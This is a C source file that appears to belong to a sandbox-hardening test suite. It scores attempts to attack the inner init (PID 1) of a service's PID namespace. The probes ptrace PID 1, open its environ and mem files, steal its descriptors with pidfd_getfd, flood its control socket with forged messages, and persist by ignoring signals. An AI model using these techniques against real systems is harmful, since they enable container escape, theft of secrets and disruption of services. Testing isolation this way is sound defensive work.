/*
 * first.c - attacks at PID 1 of the service's own PID namespace, the inner init
 */
#include "attacker.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "spawn/channel.h"

/* Of PID 1 that many descriptors are tried. */
enum { DESCRIPTORS = 64, MESSAGES = 1200 };

static bool opens(const char *path, int flags)
{
    int fd = open(path, flags | O_CLOEXEC);

    if (fd >= 0)
        close(fd);
    return fd >= 0;
}

static bool is_seized(void)
{
    if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) < 0)
        return false;
    (void)ptrace(PTRACE_INTERRUPT, 1, NULL, NULL);
    (void)waitpid(1, NULL, __WALL);
    (void)ptrace(PTRACE_DETACH, 1, NULL, NULL);
    return true;
}

static bool sees_descriptors(void)
{
    for (int fd = 0; fd < DESCRIPTORS; fd++) {
        struct stat status;
        char path[64];

        snprintf(path, sizeof path, "/proc/1/fd/%d", fd);
        if (stat(path, &status) == 0)
            return true;
    }
    return false;
}

static int64_t now_ms(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

int first_look(struct score *score, char **words)
{
    int64_t end = now_ms() + atoi(words[0]);
    bool descriptors = false;
    bool environment = false;
    bool memory = false;
    char how[HOW_SIZE];

    if (getpid() == 1)
        return EXIT_FAILURE;
    do {
        descriptors = descriptors || sees_descriptors();
        environment = environment || opens("/proc/1/environ", O_RDONLY);
        memory = memory || opens("/proc/1/mem", O_RDWR);
    } while (now_ms() < end);
    snprintf(how, sizeof how, "open to the service:%s%s%s%s", descriptors ? " fd" : "",
             environment ? " environ" : "", memory ? " mem" : "", is_seized() ? " ptrace" : "");
    if (strchr(how, ':')[1] != '\0')
        score_success(score, how);
    atomic_fetch_add(&score->runs, 1);
    return EXIT_SUCCESS;
}

/* No signal that can be ignored ends it, nor does the end of a parent. */
static void persist(void)
{
    (void)prctl(PR_SET_PDEATHSIG, 0);
    for (int signal_number = 1; signal_number < 32; signal_number++)
        (void)signal(signal_number, SIG_IGN);
}

int first_hold(struct score *score, char **words)
{
    (void)words;
    persist();
    for (int i = 0; i < 2; i++)
        if (fork() == 0) {
            (void)setsid();
            break;
        }
    if (getpid() != 1 && ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0)
        (void)ptrace(PTRACE_INTERRUPT, 1, NULL, NULL);
    atomic_fetch_add(&score->runs, 1);
    for (;;)
        pause();
}

/* As link.c sends it, with a file, if that is none of -1. */
static void send_to_link(int link, const struct channel_message *message, int file)
{
    union {
        struct cmsghdr part;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control = {0};
    struct iovec data = {.iov_base = (void *)(uintptr_t)message, .iov_len = sizeof *message};
    struct msghdr header = {.msg_iov = &data, .msg_iovlen = 1};

    if (file >= 0) {
        header.msg_control = &control;
        header.msg_controllen = sizeof control;
        control.part.cmsg_level = SOL_SOCKET;
        control.part.cmsg_type = SCM_RIGHTS;
        control.part.cmsg_len = CMSG_LEN(sizeof file);
        memcpy(CMSG_DATA(&control.part), &file, sizeof file);
    }
    (void)sendmsg(link, &header, MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* Fill the outer nsinit's table, then say what is no message. */
static void abuse_link(int link)
{
    struct channel_message message;

    memset(&message, 0, sizeof message);
    message.kind = CHANNEL_STOPPED;
    for (int i = 0; i < MESSAGES; i++)
        send_to_link(link, &message, STDERR_FILENO);
    memset(&message, 'A', sizeof message);
    send_to_link(link, &message, -1);
    message.kind = CHANNEL_FAILED;
    send_to_link(link, &message, -1);
}

int first_link(struct score *score, char **words)
{
    int init = (int)syscall(SYS_pidfd_open, 1, 0);
    bool has_taken = false;

    (void)words;
    for (int fd = 0; fd < DESCRIPTORS; fd++) {
        int taken = (int)syscall(SYS_pidfd_getfd, init, fd, 0);
        int type = 0;
        socklen_t size = sizeof type;

        if (taken < 0)
            continue;
        has_taken = true;
        if (getsockopt(taken, SOL_SOCKET, SO_TYPE, &type, &size) == 0 && type == SOCK_SEQPACKET) {
            score_success(score, "PID 1's link taken");
            abuse_link(taken);
            break;
        }
    }
    if (has_taken && score->successes == 0)
        score_success(score, "a descriptor of PID 1 taken");
    atomic_fetch_add(&score->runs, 1);
    for (;;)
        pause();
}
